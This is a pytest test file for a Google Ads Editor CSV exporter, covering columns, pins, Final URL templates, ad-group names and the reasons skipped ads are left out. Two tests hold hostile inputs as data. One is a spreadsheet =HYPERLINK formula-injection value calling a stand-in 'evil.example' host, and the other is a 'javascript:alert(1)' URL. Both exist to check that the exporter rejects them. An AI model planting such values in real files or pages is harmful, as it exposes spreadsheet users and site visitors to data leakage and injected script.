"""The Google Ads Editor CSV: columns, pins, Final URLs, ad-group names, and ads left out with a reason."""

from __future__ import annotations

import io
import json
from datetime import datetime

import pandas as pd
import pytest

from core.copy.export import (
    AD_GROUP_MAX, GOOGLE_ADS_COLUMNS, EditorExport, ad_group_names, google_ads_csv, google_ads_export, google_ads_frame,
    product_url,
)
from core.copy.variants import Variant, save_variants
from core.errors import MarketLabError
from core.store import Store

LONG_TITLE = ("LEGO Minecraft The Creeper BigFig and Ocelot Characters 21156 Buildable Toy Minecraft Action Figures "
              "for Kids Aged 7 Plus, Building Toy Set with Minecraft Figures, Gift Idea")


def _product(store: Store, pid: str, title: str, attributes: dict | None = None) -> None:
    with store.transaction() as cur:
        cur.execute("INSERT INTO products (product_id, title, attributes, updated_at) VALUES (?, ?, ?, ?)",
                    [pid, title, json.dumps(attributes) if attributes is not None else None, datetime(2024, 1, 1)])


def _fields(n_headlines: int = 3, n_descriptions: int = 2, **extra: str) -> dict[str, str]:
    fields = {("headline" if i == 1 else f"headline_{i}"): f"Creeper BigFig {i}" for i in range(1, n_headlines + 1)}
    fields.update({("description" if i == 1 else f"description_{i}"): f"A buildable Creeper figure, part {i}."
                   for i in range(1, n_descriptions + 1)})
    fields.update(extra)
    return fields


def _rsa(pid: str, fields: dict[str, str] | None = None, pins: dict | None = None) -> Variant:
    return Variant(pid, "google_rsa", "friendly", fields or _fields(), params={"pins": pins} if pins is not None else {})


def _frame(export: EditorExport) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(export.csv), encoding="utf-8-sig", dtype=str, keep_default_na=False)


@pytest.fixture
def shop(tmp_store: Store) -> Store:
    _product(tmp_store, "P-123", LONG_TITLE, {"Product Url": "https://www.amazon.com/dp/B08XYZ", "Color": "Green"})
    _product(tmp_store, "P-9", "Summit Water Bottle", {"Capacity": "750 ml"})  # no page of its own
    return tmp_store


def test_every_asset_and_path_lands_in_its_column_and_the_csv_round_trips(shop: Store) -> None:
    full = _rsa("P-123", _fields(15, 4, path_1="Minecraft", path_2="BigFig"))
    save_variants(shop, [full], "approved")
    export = google_ads_export(shop, campaign="Fall sale")
    frame = _frame(export)
    assert tuple(frame.columns) == GOOGLE_ADS_COLUMNS and export.ads == len(frame) == 1 and export.skipped == []
    assert {"Headline 1 position", "Headline 15 position", "Description 4 position"} <= set(frame.columns)
    row = frame.iloc[0]
    assert [row[f"Headline {i}"] for i in range(1, 16)] == [f"Creeper BigFig {i}" for i in range(1, 16)]
    assert [row[f"Description {i}"] for i in range(1, 5)] == [f"A buildable Creeper figure, part {i}." for i in range(1, 5)]
    assert (row["Path 1"], row["Path 2"]) == ("Minecraft", "BigFig")
    assert (row["Campaign"], row["Ad type"], row["Status"]) == ("Fall sale", "Responsive search ad", "Paused")
    assert all(row[f"Headline {i} position"] == "" for i in range(1, 16))  # unpinned: blank
    assert google_ads_csv(shop, campaign="Fall sale") == export.csv


def test_pins_land_in_the_position_column_of_their_asset(shop: Store) -> None:
    # headline_4 is empty, so headline_5 is written as Headline 4 and its pin goes with it.
    fields = {k: v for k, v in _fields(5, 3).items() if k != "headline_4"}
    variant = _rsa("P-123", fields, pins={"headline": 1, "headline_5": 2, "description_2": 1, "headline_3": None})
    save_variants(shop, [variant], "approved")
    row = _frame(google_ads_export(shop)).iloc[0]
    assert row["Headline 1 position"] == "1" and row["Headline 1"] == "Creeper BigFig 1"
    assert row["Headline 4"] == "Creeper BigFig 5" and row["Headline 4 position"] == "2"
    assert row["Headline 3 position"] == "" and row["Headline 2 position"] == ""
    assert row["Description 2 position"] == "1" and row["Description 1 position"] == row["Description 3 position"] == ""


def test_the_ad_groups_keywords_follow_its_ads_a_row_each_and_once_per_group(shop: Store) -> None:
    first, second = _rsa("P-123"), _rsa("P-123", _fields(4, 2))
    for variant in (first, second):
        variant.params["keywords"] = ["creeper bigfig", "minecraft figure"]
    save_variants(shop, [first, second], "approved")
    export = google_ads_export(shop)
    frame = _frame(export)
    assert export.ads == 2 and len(frame) == 4
    ads, keywords = frame[frame["Ad type"] != ""], frame[frame["Keyword"] != ""]
    assert (ads["Keyword"] == "").all()
    assert keywords[["Keyword", "Criterion Type"]].values.tolist() == [["creeper bigfig", "Broad"], ["minecraft figure", "Broad"]]
    assert set(keywords["Ad group"]) == set(ads["Ad group"]) and (keywords["Headline 1"] == "").all()


def test_pins_google_would_refuse_leave_the_ad_out(shop: Store) -> None:
    bad_place = _rsa("P-123", pins={"headline": 4})
    all_first = _rsa("P-123", pins={"headline": 1, "headline_2": 1, "headline_3": 1})
    path_pin = _rsa("P-123", _fields(path_1="Minecraft"), pins={"path_1": 1})
    save_variants(shop, [bad_place, all_first, path_pin], "approved")
    export = google_ads_export(shop)
    assert export.ads == 0 and len(export.skipped) == 3
    text = " ".join(export.skipped)
    assert "Headline is pinned to position 4; a headline pins to 1, 2 or 3" in text
    assert "no headline for position 2" in text and "Path 1 cannot be pinned" in text


def test_the_products_own_url_is_the_final_url_without_a_template(shop: Store) -> None:
    save_variants(shop, [_rsa("P-123")], "approved")
    row = _frame(google_ads_export(shop)).iloc[0]
    assert row["Final URL"] == "https://www.amazon.com/dp/B08XYZ"


def test_a_template_fills_in_product_url_and_variant_id(shop: Store) -> None:
    variant = _rsa("P-123")
    save_variants(shop, [variant], "approved")
    export = google_ads_export(shop, campaign="Fall sale",
                               final_url_template="{product_url}?utm_campaign={campaign}&utm_content={variant_id}")
    row = _frame(export).iloc[0]
    assert row["Final URL"] == f"https://www.amazon.com/dp/B08XYZ?utm_campaign=Fall%20sale&utm_content={variant.variant_id}"
    plain = _frame(google_ads_export(shop, final_url_template="https://shop.example/p/{product_id}")).iloc[0]
    assert plain["Final URL"] == "https://shop.example/p/P-123"


def test_an_ad_without_any_url_is_left_out_with_a_reason_naming_the_product(shop: Store) -> None:
    save_variants(shop, [_rsa("P-123"), _rsa("P-9")], "approved")
    export = google_ads_export(shop)
    assert export.ads == 1 and set(_frame(export)["Ad group"]) == {"LEGO Minecraft The Creeper BigFig"}
    assert len(export.skipped) == 1
    assert export.skipped[0].startswith(
        "Summit Water Bottle (P-9): no Final URL — the product has no URL and no URL template is set")
    templated = google_ads_export(shop, final_url_template="{product_url}?utm_content={variant_id}")
    assert templated.ads == 1 and "the URL template uses {product_url} and the product has no URL" in templated.skipped[0]
    # A template without {product_url} gives every product an address.
    assert google_ads_export(shop, final_url_template="https://shop.example/{product_id}").ads == 2


def test_a_template_that_is_no_web_address_is_refused(shop: Store) -> None:
    save_variants(shop, [_rsa("P-123")], "approved")
    with pytest.raises(MarketLabError, match="does not give a web address"):
        google_ads_export(shop, final_url_template='=HYPERLINK("http://evil.example/{variant_id}")')


def test_ad_groups_get_short_unique_names(shop: Store) -> None:
    _product(shop, "P-124", LONG_TITLE.replace("Gift Idea", "Birthday Gift"), {"url": "https://shop.example/p-124"})
    save_variants(shop, [_rsa("P-123"), _rsa("P-124")], "approved")
    groups = sorted(_frame(google_ads_export(shop))["Ad group"])
    assert groups == ["LEGO Minecraft The Creeper BigFig (P-123)", "LEGO Minecraft The Creeper BigFig (P-124)"]
    names = ad_group_names({"P-123": LONG_TITLE, "P-9": "Summit Water Bottle"})
    assert names == {"P-123": "LEGO Minecraft The Creeper BigFig", "P-9": "Summit Water Bottle"}
    assert len(LONG_TITLE) > 150 and len(names["P-123"]) <= AD_GROUP_MAX


def test_a_variant_that_breaks_limits_is_left_out_with_the_reason() -> None:
    too_long = _rsa("P-1", _fields(headline_2="x" * 31))
    short = _rsa("P-1", {"headline": "Summit Bottle", "description": "Insulated steel."})
    email = Variant("P-1", "email", "friendly", {"subject": "Hi", "preheader": "There"})
    frame = google_ads_frame([too_long, short, email, _rsa("P-1")], ad_groups={"P-1": "Summit Bottle"},
                             product_urls={"P-1": "https://shop.example/p-1"})
    assert len(frame) == 1 and frame.iloc[0]["Final URL"] == "https://shop.example/p-1"
    assert frame.iloc[0]["Ad group"] == "Summit Bottle"


def test_skipped_reasons_name_the_broken_limit(shop: Store) -> None:
    variant = _rsa("P-123")
    save_variants(shop, [variant], "approved")
    with shop.transaction() as cur:  # a limit tightened after approval: the saved copy no longer fits
        cur.execute("UPDATE copy_variants SET fields = ? WHERE variant_id = ?",
                    [json.dumps(_fields(headline_2="x" * 31)), variant.variant_id])
    export = google_ads_export(shop)
    assert export.ads == 0
    assert export.skipped == [f"LEGO Minecraft The Creeper BigFig (P-123): breaks the ad's limits (Headline 2: 31 characters, "
                              f"over the 30-character limit) (variant {variant.variant_id})."]


def test_product_url_reads_the_keys_catalogs_use() -> None:
    assert product_url('{"Product Url": "https://www.amazon.com/dp/B1"}') == "https://www.amazon.com/dp/B1"
    assert product_url({"image_link": "https://cdn.example/i.jpg", "link": "https://shop.example/a"}) == "https://shop.example/a"
    assert product_url({"url": "javascript:alert(1)"}) == product_url({"url": "shop.example/a"}) == ""
    assert product_url({"url": "https://shop.example/a b"}) == product_url(None) == ""
